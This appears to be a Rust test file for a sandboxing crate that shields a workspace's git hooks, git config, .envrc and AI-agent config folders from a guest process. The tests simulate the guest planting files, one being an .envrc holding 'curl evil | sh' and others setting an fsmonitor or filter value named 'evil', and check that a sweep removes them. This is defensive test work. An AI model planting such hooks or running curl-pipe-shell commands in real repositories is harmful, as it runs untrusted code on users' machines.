//! G1 (inspection) and G2 (the sweep), each judged by looking at the directory afterwards.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use stockade_hostfs::{Guarded, HostFsError};

fn dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("stockade-hostfs-{tag}-{}", std::process::id()));
    let _ = fs::remove_dir_all(&d);
    fs::create_dir_all(&d).unwrap();
    d
}

fn repo(tag: &str) -> PathBuf {
    let d = dir(tag);
    for sub in [".git/hooks", ".git/objects", ".git/refs", ".vscode"] {
        fs::create_dir_all(d.join(sub)).unwrap();
    }
    fs::write(d.join(".git/config"), "[core]\n").unwrap();
    fs::write(d.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(d.join(".bashrc"), "# rc\n").unwrap();
    d
}

#[test]
fn g1_present_absent_and_pinned_are_reported() {
    let d = repo("report");
    let g = Guarded::inspect(&d).unwrap();
    for p in [".git/hooks", ".git/config", ".bashrc", ".vscode"] {
        assert!(g.present().iter().any(|x| x == p), "{p} not present: {:?}", g.present());
    }
    // History is not protected; what configures or runs is.
    for p in [".git/objects", ".git/refs", ".git/HEAD", ".git"] {
        assert!(!g.present().iter().any(|x| x == p), "{p} is protected: {:?}", g.present());
    }
    assert_eq!(g.pinned(), [".git"]);
    for p in [".envrc", ".git/info", ".claude", ".codex", ".ssh", ".gitconfig", ".npmrc"] {
        assert!(g.absent().contains(&p), "{p} not absent: {:?}", g.absent());
    }
    assert!(g.describe().starts_with("read-only inside the workspace: "), "{}", g.describe());
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g1_a_symlink_on_the_way_refuses_and_a_gitfile_is_protected() {
    let d = dir("links");
    symlink("/etc", d.join(".claude")).unwrap();
    let e = Guarded::inspect(&d).unwrap_err();
    assert!(matches!(&e, HostFsError::Symlink { rel, .. } if rel == ".claude"), "{e}");
    assert!(e.to_string().contains(".claude in the read-write workspace"), "{e}");
    fs::remove_file(d.join(".claude")).unwrap();
    // `.git` a symlink: the whole git subtree would be elsewhere.
    fs::create_dir(d.join("elsewhere")).unwrap();
    symlink(d.join("elsewhere"), d.join(".git")).unwrap();
    assert!(matches!(Guarded::inspect(&d), Err(HostFsError::Symlink { rel, .. }) if rel == ".git"));
    fs::remove_file(d.join(".git")).unwrap();
    // A gitfile (a worktree or submodule checkout) is itself kept read-only.
    fs::write(d.join(".git"), "gitdir: /somewhere/else\n").unwrap();
    let g = Guarded::inspect(&d).unwrap();
    assert!(g.present().iter().any(|x| x == ".git"), "{:?}", g.present());
    assert!(g.pinned().is_empty());
    fs::remove_dir_all(&d).unwrap();
}

/// Everything under `d`, as sorted relative paths.
fn tree(d: &Path) -> Vec<String> {
    fn walk(base: &Path, d: &Path, out: &mut Vec<String>) {
        for e in fs::read_dir(d).unwrap().flatten() {
            let p = e.path();
            out.push(p.strip_prefix(base).unwrap().display().to_string());
            if fs::symlink_metadata(&p).unwrap().is_dir() {
                walk(base, &p, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(d, d, &mut out);
    out.sort();
    out
}

#[test]
fn g2_what_the_guest_planted_is_removed_and_nothing_else() {
    let d = repo("sweep");
    fs::write(d.join("notes.txt"), "mine\n").unwrap();
    let g = Guarded::inspect(&d).unwrap();
    let before = tree(&d);
    // The "guest": plants absent protected paths, and ordinary work beside them.
    fs::write(d.join(".envrc"), "curl evil | sh\n").unwrap();
    fs::create_dir_all(d.join(".codex")).unwrap();
    fs::write(d.join(".codex/config.toml"), "evil = true\n").unwrap();
    fs::create_dir_all(d.join(".git/info")).unwrap();
    fs::write(d.join(".git/info/attributes"), "* filter=evil\n").unwrap();
    fs::write(d.join(".git/objects/ab"), "object\n").unwrap();
    fs::write(d.join("output.txt"), "result\n").unwrap();
    // A symlink planted as a protected name is removed, not followed.
    let outside = dir("sweep-outside");
    fs::create_dir_all(outside.join("keep")).unwrap();
    symlink(&outside, d.join(".claude")).unwrap();
    let removed = g.sweep().unwrap();
    assert_eq!(removed, [".git/info", ".envrc", ".claude", ".codex"], "{removed:?}");
    let mut expected = before;
    expected.extend([".git/objects/ab".into(), "output.txt".into()]);
    expected.sort();
    assert_eq!(tree(&d), expected);
    assert!(outside.join("keep").is_dir(), "the sweep followed a symlink");
    // Present paths are never removed, even when changed (the tier keeps them read-only).
    assert_eq!(fs::read_to_string(d.join(".bashrc")).unwrap(), "# rc\n");
    assert!(g.sweep().unwrap().is_empty(), "a second sweep found more");
    fs::remove_dir_all(&d).unwrap();
    fs::remove_dir_all(&outside).unwrap();
}

#[test]
fn g2_a_planted_git_redirect_is_removed() {
    // No `.git` at inspection: a guest's `git init` is fine, but what runs or configures
    // goes, and a `.git` symlink or gitfile pointing at planted hooks goes too.
    let d = dir("redirect");
    let g = Guarded::inspect(&d).unwrap();
    for sub in [".git/hooks", ".git/objects"] {
        fs::create_dir_all(d.join(sub)).unwrap();
    }
    fs::write(d.join(".git/hooks/post-checkout"), "evil\n").unwrap();
    fs::write(d.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    fs::write(d.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let removed = g.sweep().unwrap();
    assert!(removed.contains(&".git/hooks".to_owned()) && removed.contains(&".git/config".to_owned()), "{removed:?}");
    assert_eq!(tree(&d), [".git", ".git/HEAD", ".git/objects"]);
    fs::remove_dir_all(d.join(".git")).unwrap();
    fs::create_dir_all(d.join("evil/hooks")).unwrap();
    symlink("evil", d.join(".git")).unwrap();
    assert_eq!(g.sweep().unwrap(), [".git"]);
    assert!(d.join("evil/hooks").is_dir());
    fs::write(d.join(".git"), "gitdir: evil\n").unwrap();
    assert_eq!(g.sweep().unwrap(), [".git"]);
    assert!(!d.join(".git").exists());
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g3_every_socket_is_found_and_the_walk_is_bounded() {
    let d = dir("sockets");
    fs::create_dir_all(d.join("a/b/c")).unwrap();
    let _top = std::os::unix::net::UnixListener::bind(d.join("daemon.sock")).unwrap();
    let _deep = std::os::unix::net::UnixListener::bind(d.join("a/b/c/deep.sock")).unwrap();
    fs::write(d.join("a/file"), "x").unwrap();
    // A symlink to a directory with a socket is not followed.
    let other = dir("sockets-other");
    let _outside = std::os::unix::net::UnixListener::bind(other.join("outside.sock")).unwrap();
    symlink(&other, d.join("a/link")).unwrap();
    assert_eq!(stockade_hostfs::sockets(&d, 100).unwrap(), ["a/b/c/deep.sock", "daemon.sock"]);
    let e = stockade_hostfs::sockets(&d, 3).unwrap_err();
    assert!(e.to_string().contains("more than 3 entries to check for unix sockets"), "{e}");
    fs::remove_dir_all(&d).unwrap();
    fs::remove_dir_all(&other).unwrap();
}

#[test]
fn g4_a_workspace_is_resolved_then_judged() {
    let d = dir("resolve");
    fs::create_dir(d.join("real")).unwrap();
    symlink(d.join("real"), d.join("link")).unwrap();
    symlink("/etc", d.join("etc")).unwrap();
    fs::write(d.join("file"), "x").unwrap();
    assert_eq!(stockade_hostfs::resolve_workspace(&d.join("link")).unwrap(), fs::canonicalize(d.join("real")).unwrap());
    let e = stockade_hostfs::resolve_workspace(&d.join("etc")).unwrap_err();
    assert!(e.to_string().starts_with("workspace /etc cannot be granted: it is a system directory"), "{e}");
    let e = stockade_hostfs::resolve_workspace(&d.join("file")).unwrap_err();
    assert!(e.to_string().ends_with("/file is not a directory"), "{e}");
    let e = stockade_hostfs::resolve_workspace(&d.join("absent")).unwrap_err();
    assert!(e.to_string().contains("absent: No such file or directory"), "{e}");
    fs::remove_dir_all(&d).unwrap();
}
